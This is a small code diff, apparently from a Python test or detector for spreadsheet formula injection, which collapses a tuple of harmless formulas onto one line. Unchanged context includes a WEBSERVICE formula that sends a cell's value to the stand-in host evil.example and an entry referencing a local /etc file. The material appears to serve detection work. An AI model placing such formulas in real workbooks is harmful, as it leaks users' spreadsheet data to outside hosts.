@@ -47,12 +47,7 @@ OUTWARD = (
     "='file:///etc/x.ods'#$甲.A1",
     "=取数",
 )
-INWARD = (
-    '=IF(B2="[1]http://a|b!","是","否")',
-    "=SUM(B2:B9)",
-    "=$B$2*2-COUNTIF(B:B,1)",
-    '=TEXT(TODAY(),"yyyy-mm-dd")',
-)
+INWARD = ('=IF(B2="[1]http://a|b!","是","否")', "=SUM(B2:B9)", "=$B$2*2-COUNTIF(B:B,1)", '=TEXT(TODAY(),"yyyy-mm-dd")')
 CALLS = 'WEBSERVICE("http://evil.example/?"&amp;ENCODEURL($A$2))'
 # What a workbook may hold in a sheet besides its cells; each calls out or tells who wrote it.
 RULES = (
